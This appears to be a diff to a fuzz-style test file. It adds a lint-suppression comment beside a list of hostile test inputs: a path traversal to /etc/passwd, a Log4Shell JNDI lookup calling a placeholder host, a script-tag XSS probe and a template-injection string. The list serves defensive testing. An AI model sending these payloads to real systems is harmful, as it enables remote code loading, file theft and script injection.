@@ -52,6 +52,7 @@ const nasty = fc.constantFrom(
   'Z̴̡̛̛̛̙̝̪̺̤̖̭̪̓̈́̃̇̈́͐͑͊̍͘a̶̡̳͎̋l̸̢̻̓g̵o̴',
   '𝕏'.repeat(300),
   '../../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the characters are the attack
   '${jndi:ldap://example.invalid/a}',
   '<script>alert(1)</script>',
   '{{7*7}}',
